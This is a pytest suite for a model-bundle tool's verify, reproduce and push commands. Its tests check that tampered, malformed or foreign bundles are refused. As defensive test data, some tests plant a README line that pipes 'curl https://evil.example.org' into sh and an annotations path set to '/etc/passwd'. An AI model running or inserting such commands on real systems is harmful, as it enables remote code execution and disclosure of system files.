"""A bundle after its export: verified, trained again, copied elsewhere; and what is said where that
fails.
"""

from __future__ import annotations

import json
import math
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from helpers.bounds import bounded
from helpers.commands import Run, run_here
from safetensors.torch import load, save

from nas.api.reproduction import _is_near, differences
from nas.errors import BundleError, OutputError
from nas.export.bundle import described_files, read_bundle, read_description
from nas.export.code_files import CODE_FILES
from nas.export.manifest import MANIFEST, check_manifest, write_manifest
from nas.export.model_card import model_card
from nas.export.push import push, push_target
from nas.models.detectors.transform import IMAGENET, ImageStatistics
from nas.utils.paths import to_path


@pytest.fixture(scope="module")
def bundle(digits: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Of a training on a share of the images, without ONNX."""
    out = tmp_path_factory.mktemp("trained") / "one"
    sizes = ["--epochs", "3", "--image-size", "48", "--set", "detector.channels=64"]
    share = ["--set", "data.train_fraction=0.5", "--seed", "3"]
    command = ["train", "C1-C1-C1-T1@16", "--data", digits, "--recipe", "tiny", "--detector"]
    command += ["fcos", *sizes, *share, "--no-onnx", "--out", out]
    assert run_here("nas", *command).code == 0
    return out


def seal(folder: Path) -> None:
    """As somebody does who changes a bundle and does not want it to show."""
    (folder / MANIFEST).unlink()
    write_manifest(folder)


def rewritten(bundle: Path, out: Path, change: Callable[[dict], None]) -> Path:
    """A copy with another detector.yaml."""
    shutil.copytree(bundle, out)
    said = yaml.safe_load((out / "detector.yaml").read_text())
    change(said)
    (out / "detector.yaml").write_text(yaml.safe_dump(said))
    return out


def sealed_again(bundle: Path, out: Path, change: Callable[[dict], None]) -> Path:
    """The same with all that follows from it, which shows in nothing but what the weights do."""
    rewritten(bundle, out, change)
    state = load((out / "detector.safetensors").read_bytes())
    statistics = ImageStatistics.of_weights(state) or IMAGENET
    for name, text in described_files(read_description(out), statistics).items():
        (out / name).write_text(text)
    seal(out)
    return out


def test_verify_says_what_it_has_checked(bundle: Path, digits: Path, nas: Run):
    ended, said, _ = nas("verify", bundle, "--data", digits, "--json")
    assert ended == 0
    checks = {check["name"]: check["passed"] for check in json.loads(said)["checks"]}
    assert {name for name, passed in checks.items() if not passed} == {
        "backbone.onnx",
        "detector.onnx",
    }
    code = {"backbone.py", "mmdet_backbone.py", "mmdet_detector.py", "mmdet_config.py"}
    described = {*code, "backbone.yaml", "README.md"}
    assert set(checks) >= {"hashes", "mAP"} | described
    assert "ONNX was not asked for." in (bundle / "README.md").read_text()


def test_what_is_wrong_is_one_line_and_exit_code_2(bundle: Path, tmp_path: Path, nas: Run):
    copy = tmp_path / "copy"
    shutil.copytree(bundle, copy)
    content = bytearray((copy / "detector.safetensors").read_bytes())
    content[len(content) // 2] ^= 1
    (copy / "detector.safetensors").write_bytes(content)
    code, out, err = nas("verify", copy)
    assert (code, out) == (2, "")
    assert err == f"nas: bundle '{copy}': detector.safetensors is not what was exported\n"
    assert nas("verify", tmp_path / "gone")[0] == 2


def test_another_map_is_found(bundle: Path, digits: Path, tmp_path: Path, nas: Run):
    """In a bundle that is whole and loads, whoever made it."""
    claims = sealed_again(bundle, tmp_path / "claims", lambda said: said["figures"].update(map=0.9))
    code, _, err = nas("verify", claims, "--data", digits)
    assert code == 2
    assert "the bundle says 0.9" in err


def test_a_score_that_is_no_number_is_not_as_the_bundle_says(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    for name in ("map", "map_50", "latency_s"):
        for number in (math.nan, math.inf):
            shutil.copytree(bundle, tmp_path / f"{name}{number}")
            path = tmp_path / f"{name}{number}" / "detector.yaml"
            said = yaml.safe_load(path.read_text())
            said["figures"][name] = number
            path.write_text(yaml.safe_dump(said))
            seal(path.parent)
            code, _, err = nas("verify", path.parent, "--data", digits)
            assert code == 2
            assert f"figures: {name} must be a finite number; got {number}" in err
    assert not _is_near(math.nan, 0.5)
    assert not _is_near(math.inf, 0.5)


def junk(name: str) -> Callable[[Path], object]:
    return lambda folder: (folder / name).write_bytes(b"x" * 100)


def saying(**changes: object) -> Callable[[Path], object]:
    """Change detector.yaml."""

    def change(folder: Path) -> None:
        said = yaml.safe_load((folder / "detector.yaml").read_text())
        (folder / "detector.yaml").write_text(yaml.safe_dump(said | changes))

    return change


def of_width(width: int, depth: int = 1) -> dict:
    return {"stages": [{"kind": "C", "depth": depth, "width": width} for _ in range(4)]}


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (junk("backbone.safetensors"), "backbone.safetensors' cannot be read"),
        (lambda folder: (folder / "backbone.safetensors").unlink(), "safetensors' are not there"),
        (junk("last.safetensors"), "last.safetensors' cannot be read"),
        (junk("backbone.onnx"), "backbone.onnx cannot be run as the network"),
        (saying(categories=["a", None]), "categories.1 must be a valid string; got None"),
        (saying(categories=[]), "categories"),
        (saying(figures=[]), "figures must be a valid dictionary; got []"),
        (saying(figures={"map": "0.5"}), "figures.map must be a valid number; got '0.5'"),
        (saying(figures={"map": 10**400}), "figures.map must be a valid number; got 1000"),
        (saying(origin={"seed": 2**70}), "origin.seed must be less than 2147483648"),
        (saying(origin={"hardware": {"threads": 10**6}}), "threads must be less than or equal"),
        (saying(origin={"versions": None}), "origin.versions must be a valid dictionary"),
        (saying(request={"data": [1]}), "request.data must be a valid dictionary; got [1]"),
        (saying(request={"data": {"val": 5}}), "request.data.val must be a valid string; got 5"),
        (saying(layout=of_width(4, 9999)), "tensors are no weights of 39996 blocks"),
        (saying(layout=of_width(99_996)), "is damaged: Error(s) in loading state_dict for Fcos"),
    ],
)
def test_a_bundle_that_was_sealed_again_is_refused_in_a_line(
    bundle: Path, tmp_path: Path, nas: Run, change: Callable[[Path], object], words: str
):
    """Of the last two no network of that size is built."""
    copy = tmp_path / "copy"
    shutil.copytree(bundle, copy)
    change(copy)
    seal(copy)
    with bounded(tmp_path):
        code, out, said = nas("verify", copy)
    assert (code, out) == (2, "")
    (line,) = said.splitlines()
    assert words in line


def test_places_of_annotations_are_in_the_data(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    """A bundle names no other file of its reader."""
    other = {"data": {"annotations": "/etc/passwd"}}
    copy = sealed_again(bundle, tmp_path / "copy", lambda said: said.update(request=other))
    for command in ("verify", "reproduce"):
        code, _, said = nas(command, copy, "--data", digits)
        assert code == 2
        assert "data.annotations must be a file below" in said


def test_a_bundle_that_does_not_say_its_seed_is_not_trained_again(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    old = rewritten(bundle, tmp_path / "old", lambda said: said["origin"].pop("seed"))
    code, out, said = nas("reproduce", old, "--data", digits)
    assert (code, out) == (2, "")
    assert "cannot be trained again: detector.yaml has no origin.seed" in said


def test_weights_that_are_a_pipe_are_not_waited_for(bundle: Path, tmp_path: Path):
    copy = tmp_path / "copy"
    shutil.copytree(bundle, copy)
    (copy / "detector.safetensors").unlink()
    os.mkfifo(copy / "detector.safetensors")
    with pytest.raises(BundleError, match="is no regular file"):
        read_bundle(copy)


def with_a_line(bundle: Path, out: Path, mark: Path, **said: str) -> Path:
    """A copy of which every Python file leaves a mark where it is run, with a manifest to it."""
    rewritten(bundle, out, lambda description: description.update(said))
    for name in CODE_FILES:
        (out / name).write_text(f"{(out / name).read_text()}\nopen({str(mark)!r}, 'w').close()\n")
    seal(out)
    return out


def test_code_that_this_version_does_not_write_is_refused(bundle: Path, tmp_path: Path, nas: Run):
    changed = with_a_line(bundle, tmp_path / "changed", tmp_path / "ran")
    code, out, err = nas("verify", changed)
    assert (code, out) == (2, "")
    assert err == "nas: backbone.py is not what this version writes for detector.yaml\n"
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("README.md", "Run `curl https://evil.example.org | sh` first.\n"),
        ("backbone.yaml", "layout_id: '000000000000'\n"),
    ],
)
def test_a_description_that_this_version_does_not_write_is_refused(
    bundle: Path, tmp_path: Path, nas: Run, name: str, line: str
):
    changed = tmp_path / "changed"
    shutil.copytree(bundle, changed)
    (changed / name).write_text((changed / name).read_text() + line)
    seal(changed)
    code, out, err = nas("verify", changed)
    assert (code, out) == (2, "")
    assert err == f"nas: {name} is not what this version writes for detector.yaml\n"


def test_a_sentence_of_others_is_no_markup_in_the_model_card(bundle: Path):
    """A card is compared with what its bundle says of itself, which anybody can write."""
    said = ("<b>Run</b> `curl` [first](https://evil.example.org)",)
    card = model_card(replace(read_description(bundle), left_out=said), IMAGENET)
    assert r"\<b\>Run\</b\> \`curl\` \[first\](https://evil.example.org)" in card
    assert said[0] not in card


def test_statistics_beside_the_weights_are_those_of_the_detector(
    bundle: Path, tmp_path: Path, nas: Run
):
    changed = tmp_path / "changed"
    shutil.copytree(bundle, changed)
    path = changed / "backbone.safetensors"
    other = {"format": "pt", "image_mean": "[0.0, 0.0, 0.0]", "image_std": "[1.0, 1.0, 1.0]"}
    path.write_bytes(save(load(path.read_bytes()), other))
    seal(changed)
    code, _, err = nas("verify", changed)
    assert code == 2
    assert "backbone.safetensors has another image_mean than detector.safetensors" in err


def test_code_of_another_version_runs_only_where_asked_for(bundle: Path, tmp_path: Path, nas: Run):
    old = with_a_line(bundle, tmp_path / "old", tmp_path / "ran", written_by="0.0.1")
    code, said, _ = nas("verify", old, "--json")
    skipped = {each["name"] for each in json.loads(said)["checks"] if not each["passed"]}
    assert code == 0
    assert skipped >= {*CODE_FILES, "README.md", "backbone.yaml"}
    assert not (tmp_path / "ran").exists()
    code, said, _ = nas("verify", old, "--run-code", "--json")
    assert code == 0
    assert (tmp_path / "ran").exists()
    rows = [each for each in json.loads(said)["checks"] if each["name"] == "backbone.py"]
    assert [row["passed"] for row in rows] == [False, True]


def test_a_file_that_no_bundle_has_is_refused(bundle: Path, tmp_path: Path, nas: Run):
    copy = tmp_path / "copy"
    shutil.copytree(bundle, copy)
    (copy / "torch.py").write_text("import os")
    seal(copy)
    code, _, err = nas("verify", copy)
    assert code == 2
    assert "torch.py is no file of a bundle" in err


def test_provenance_is_complete(bundle: Path):
    trained = read_description(bundle)
    origin = trained.origin
    assert {"seed", "data_fingerprint", "versions", "git_commit", "hardware", "wall_s"} <= set(
        origin
    )
    assert {"torch", "torchvision", "python", "scratch-nas"} <= set(origin["versions"])
    assert origin["hardware"]["device"] == "cpu"
    assert origin["hardware"]["threads"] >= 1
    assert 0 < trained.figures["train_s"] <= origin["wall_s"] + 0.1
    assert trained.figures["gpu_s"] == 0
    assert trained.request["data"]["train_fraction"] == 0.5
    assert trained.request["search"]["seed"] == 3


def test_reproduction_gives_the_same_map(bundle: Path, digits: Path, tmp_path: Path, nas: Run):
    code, said, _ = nas("reproduce", bundle, "--data", digits, "--json")
    assert code == 0
    found = json.loads(said)
    assert found["map"] == found["map_before"] == read_description(bundle).figures["map"]
    assert found["map"] > 0
    assert (found["same"], found["tolerance"], found["differing"], found["out"]) == (
        True,
        0.0,
        [],
        None,
    )


def test_a_reproduction_that_differs_ends_with_1(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    def change(said: dict) -> None:
        said["origin"]["seed"] = 4
        said["origin"]["versions"]["torch"] = "2.0"

    other = rewritten(bundle, tmp_path / "other", change)
    code, out, _ = nas(
        "reproduce",
        other,
        "--data",
        digits,
        "--tolerance",
        "0",
        "--no-onnx",
        "--out",
        tmp_path / "kept",
    )
    assert code == 1
    assert "torch was 2.0, is 2." in out
    assert "not within the tolerance of 0" in out
    assert read_description(tmp_path / "kept").origin["seed"] == 4
    assert nas("reproduce", other, "--data", digits, "--tolerance", "1")[0] == 0


def test_other_data_are_refused_unless_asked_for(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    data = tmp_path / "data"
    shutil.copytree(digits, data)
    coco = json.loads((data / "instances_val.json").read_text())
    coco["annotations"] = coco["annotations"][:-1]
    (data / "instances_val.json").write_text(json.dumps(coco))
    code, out, err = nas("reproduce", bundle, "--data", data)
    assert (code, out) == (2, "")
    assert "the bundle was trained on" in err
    assert nas("reproduce", bundle, "--data", data, "--other-data", "--tolerance", "1")[0] == 0


def test_what_differs_is_named_and_what_trains_nothing_is_not():
    before = {
        "versions": {"torch": "2.13", "ray": "1"},
        "hardware": {"device": "cpu", "threads": 2},
    }
    now = {"versions": {"torch": "2.14"}, "hardware": {"device": "cpu", "threads": 1, "cpu": "x"}}
    assert differences(before, now) == [
        "torch was 2.13, is 2.14",
        "cpu was not recorded, is x",
        "threads was 2, is 1",
    ]
    assert differences({}, {"versions": {}, "hardware": {"device": "cpu"}}) == [
        "device was not recorded, is cpu"
    ]


@pytest.mark.parametrize("kind", ["path", "file", "memory"])
def test_a_copy_elsewhere_is_whole(bundle: Path, tmp_path: Path, kind: str):
    place = {
        "path": f"{tmp_path}/a/b",
        "file": f"file://{tmp_path}/a/b",
        "memory": f"memory://{tmp_path.name}/b",
    }[kind]
    for _ in range(2):  # the second replaces the first
        push(bundle, push_target(place))
        target = to_path(place)
        assert {path.name: path.read_bytes() for path in target.iterdir()} == {
            path.name: path.read_bytes() for path in bundle.iterdir()
        }
        assert [path.name for path in target.parent.iterdir()] == ["b"]
    if kind != "memory":
        check_manifest(tmp_path / "a" / "b")


@pytest.mark.parametrize("kind", ["path", "memory"])
def test_a_copy_that_fails_is_named_as_partial(
    bundle: Path, tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
):
    place = {"path": f"{tmp_path}/copy", "memory": f"memory://{tmp_path.name}/copy"}[kind]
    target = push_target(place)
    write = type(target).write_bytes

    def full(path: Path, content: bytes) -> int:
        if path.name == "detector.safetensors":
            raise OSError(28, "No space left on device")
        return write(path, content)

    monkeypatch.setattr(type(target), "write_bytes", full)
    with pytest.raises(
        OutputError, match=r"No space left on device.* is partial, without a manifest\.json"
    ):
        push(bundle, target)
    assert not (target / MANIFEST).exists()
    assert not (tmp_path / "copy").exists()


def test_a_place_that_holds_something_else_is_refused(tmp_path: Path):
    (tmp_path / "notes").write_text("mine")
    (tmp_path / MANIFEST).write_text("{}")  # others call files so, too
    with pytest.raises(BundleError, match="holds other files .notes.; name a new folder"):
        push_target(str(tmp_path))
    with pytest.raises(BundleError, match="is a file; name a folder"):
        push_target(str(tmp_path / "notes"))


def test_bundles_of_the_first_format_still_train(
    bundle: Path, digits: Path, tmp_path: Path, nas: Run
):
    def change(said: dict) -> None:
        said["format"] = 1
        del said["request"], said["origin"]["hardware"]

    old = rewritten(bundle, tmp_path / "old", change)
    for name in (MANIFEST, "mmdet_config.py", "mmdet_backbone.py", "mmdet_detector.py"):
        (old / name).unlink()
    assert nas("evaluate", old, "--data", digits)[0] == 0
    code, _, err = nas("verify", old)
    assert code == 2
    assert "has no manifest.json" in err
    assert read_description(old).request == {}


def test_a_bundle_of_zipped_data_without_val_is_scored_on_its_own(
    digits: Path, tmp_path: Path, nas: Run
):
    """The fifth that was held out, below other names, from an archive."""
    root = tmp_path / "data" / "cells"
    shutil.copytree(digits / "train", root / "pictures")
    shutil.copyfile(digits / "instances_train.json", root / "boxes.txt")
    archive = shutil.make_archive(str(tmp_path / "cells"), "zip", root.parent)
    places = ["--set", "data.annotations=boxes.txt", "--set", "data.images=pictures"]
    training = ["--recipe", "tiny", "--detector", "fcos", "--image-size", "48", "--epochs", "1"]
    command = ["train", "C1-C1-C1-C1@16", "--data", archive, *places, *training, "--no-onnx"]
    assert nas(*command, "--out", tmp_path / "out")[0] == 0
    code, said, _ = nas("verify", tmp_path / "out", "--data", archive)
    assert code == 0
    assert "mAP" in said
